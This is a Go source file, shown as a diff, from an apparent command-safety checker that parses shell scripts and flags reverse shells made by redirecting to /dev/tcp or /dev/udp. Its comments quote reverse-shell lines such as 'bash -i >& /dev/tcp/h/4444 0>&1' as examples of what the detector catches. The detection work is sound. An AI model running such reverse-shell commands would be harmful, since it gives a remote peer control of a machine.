@@ -1,0 +1,64 @@
+package hardline
+
+import (
+	"path"
+	"strings"
+
+	"mvdan.cc/sh/v3/syntax"
+)
+
+// netDevice returns the bash network pseudo-device a redirection names
+// (/dev/tcp/HOST/PORT, /dev/udp/HOST/PORT: bash opens a socket instead of a
+// file), or "". A target that is not static counts when its literal start
+// already names one (>& /dev/tcp/$HOST/4444).
+func netDevice(w *syntax.Word, f field) string {
+	v := f.val
+	if f.dyn {
+		v = literalStart(w)
+	} else {
+		v = path.Clean(v)
+	}
+	if strings.HasPrefix(v, "/dev/tcp/") || strings.HasPrefix(v, "/dev/udp/") {
+		return v
+	}
+	return ""
+}
+
+// literalStart is the text a word starts with before its first expansion.
+func literalStart(w *syntax.Word) string {
+	if w == nil {
+		return ""
+	}
+	var b strings.Builder
+	for _, p := range w.Parts {
+		switch p := p.(type) {
+		case *syntax.Lit:
+			b.WriteString(p.Value)
+		case *syntax.SglQuoted:
+			b.WriteString(p.Value)
+		case *syntax.DblQuoted:
+			for _, q := range p.Parts {
+				l, ok := q.(*syntax.Lit)
+				if !ok {
+					return b.String()
+				}
+				b.WriteString(l.Value)
+			}
+		default:
+			return b.String()
+		}
+	}
+	return b.String()
+}
+
+// netShell judges a statement whose redirections put a file descriptor on
+// the network: a shell or interpreter run with it (through any wrapper)
+// hands a peer a program to drive, and so does exec, which keeps the socket
+// open for what follows, or a compound command, whose every command
+// inherits it. Both are reverse shells (bash -i >& /dev/tcp/h/4444 0>&1).
+func (r *run) netShell(b string, c ctx, cmd string) {
+	if c.net == "" {
+		return
+	}
+	r.finding(ruleReverseShell, Command, Block, b+" runs with a file descriptor on the network connection "+c.net+": a peer drives it", cmd, c.net)
+}
